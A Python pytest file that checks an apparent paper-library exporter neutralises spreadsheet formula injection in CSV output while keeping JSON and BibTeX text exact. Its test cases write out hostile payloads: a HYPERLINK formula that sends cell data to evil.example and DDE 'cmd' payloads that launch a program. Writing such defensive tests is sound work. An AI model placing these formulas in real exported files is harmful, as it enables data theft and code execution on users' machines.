"""Spreadsheet formula injection: a CSV cell starting with = + - @ tab or CR is neutralised with a leading quote
(OWASP), while papers.json and the BibTeX keep the text exact. CASES names each start and the attack it stands for."""
from __future__ import annotations

import csv
import io
import json

import pytest

from kd.exports import bibtex
from kd.exports import downloads as exports

from .conftest import plain

# start: the failure it guards against (a formula a spreadsheet would run when the CSV is opened)
CASES = {
    "=": "=HYPERLINK(\"https://evil.example/?\"&A1, \"click\") exfiltrates a cell",
    "+": "+cmd|' /C calc'!A0 runs a program through DDE",
    "-": "-2+3+cmd|' /C calc'!A0, the same behind a minus",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0, the same behind an at sign",
    "\t": "a tab before =1+1 hides the formula from a casual look",
    "\r": "a carriage return before =1+1 starts a new cell line in some readers",
}


@pytest.mark.parametrize("start", CASES, ids=["equals", "plus", "minus", "at", "tab", "carriage-return"])
def test_formula_cells_are_neutralised_in_csv_only(make_library, make_paper, start):
    payload = start + CASES[start].split(" ", 1)[0]
    paper = make_paper("evil2020formula", title=payload, authors=(payload, "Ada Lovelace"), venue=payload)
    library = make_library(paper)
    [row] = list(csv.DictReader(io.StringIO(exports.papers_csv(library), newline="")))
    assert (row["title"], row["venue"]) == ("'" + payload, "'" + payload)
    assert row["authors"] == "'" + payload + "; Ada Lovelace"
    assert all(not cell.startswith(tuple(CASES)) for cell in row.values())
    record = json.loads(exports.papers_json(library))["papers"][0]
    assert (record["title"], record["authors"][0], record["venue"]) == (payload, payload, payload)
    assert plain(bibtex.entry(paper).fields["title"]) == " ".join(payload.split())


def test_harmless_cells_are_left_alone(make_library, make_paper):
    library = make_library(make_paper("a2020b", title="'Quoted' and 1+1=2", venue="CVPR"))
    [row] = list(csv.DictReader(io.StringIO(exports.papers_csv(library), newline="")))
    assert (row["title"], row["venue"]) == ("'Quoted' and 1+1=2", "CVPR")
